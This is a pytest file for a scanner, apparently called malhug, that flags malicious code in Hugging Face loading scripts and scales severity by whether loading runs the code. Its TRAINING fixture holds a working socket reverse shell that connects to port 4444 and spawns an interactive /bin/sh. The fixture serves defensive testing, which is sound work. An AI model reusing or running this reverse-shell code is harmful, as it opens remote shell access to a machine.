"""Code that loading runs is held to the loading-script standard; a training script is not."""

from __future__ import annotations

import pytest

from malhug.analyzers.scripts.analyzer import analyze_text
from malhug.analyzers.scripts.scope import looks_like_load_time_code
from malhug.core.model import Category, Severity

TRAINING = """import os, subprocess, socket

def gpu_info():
    return subprocess.run(["nvidia-smi"], capture_output=True).stdout

def shell():
    s = socket.socket()
    s.connect(("127.0.0.1", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
"""


def _by_category(findings: list, category: Category) -> list:  # type: ignore[type-arg]
    return [f for f in findings if f.category is category]


def test_plain_command_in_an_uncalled_function_of_a_training_script_is_a_note() -> None:
    findings = analyze_text(TRAINING, "/srv/project/train.py")
    (recon,) = _by_category(findings, Category.RECON)
    assert recon.rule == "MH505" and recon.severity is Severity.LOW
    assert "nothing calls it on import" in recon.message
    # A reverse shell is an attack wherever it is.
    (rs,) = _by_category(findings, Category.REVERSE_SHELL)
    assert rs.severity >= Severity.HIGH


@pytest.mark.parametrize(
    "path",
    ["/repo/modeling_evil.py", "/home/u/.cache/huggingface/modules/transformers_modules/x/y.py", "<script>"],
)
def test_code_that_loading_runs_keeps_full_severity(path: str) -> None:
    (recon,) = _by_category(analyze_text(TRAINING, path), Category.RECON)
    assert recon.severity is Severity.HIGH


def test_called_on_import_keeps_full_severity() -> None:
    (recon,) = _by_category(analyze_text(TRAINING + "gpu_info()\n", "/srv/project/train.py"), Category.RECON)
    assert recon.severity is Severity.HIGH


def test_a_builder_is_load_time_code_whatever_its_name() -> None:
    text = "import datasets\nclass X(datasets.GeneratorBasedBuilder):\n    pass\n"
    assert looks_like_load_time_code("/anywhere/train.py", text)
    assert not looks_like_load_time_code("/anywhere/train.py", TRAINING)
    assert not looks_like_load_time_code(None, TRAINING)


def test_the_caller_can_say_loading_runs_the_file() -> None:
    """A dataset's helper module is named like any module; the hub layer knows loading imports it."""
    from malhug.analyzers.api import scan_source
    from malhug.analyzers.shared.source import BytesSource
    from malhug.core.model import Verdict

    helper = b'import os\n\n\ndef build():\n    os.system("echo malhug")\n'
    assert scan_source(BytesSource(helper), name="helpers.py").verdict is Verdict.CLEAN
    told = scan_source(BytesSource(helper), name="helpers.py", load_time=True)
    assert told.verdict is Verdict.MALICIOUS
    assert [f.rule for f in told.findings if f.severity >= Severity.HIGH] == ["MH505"]
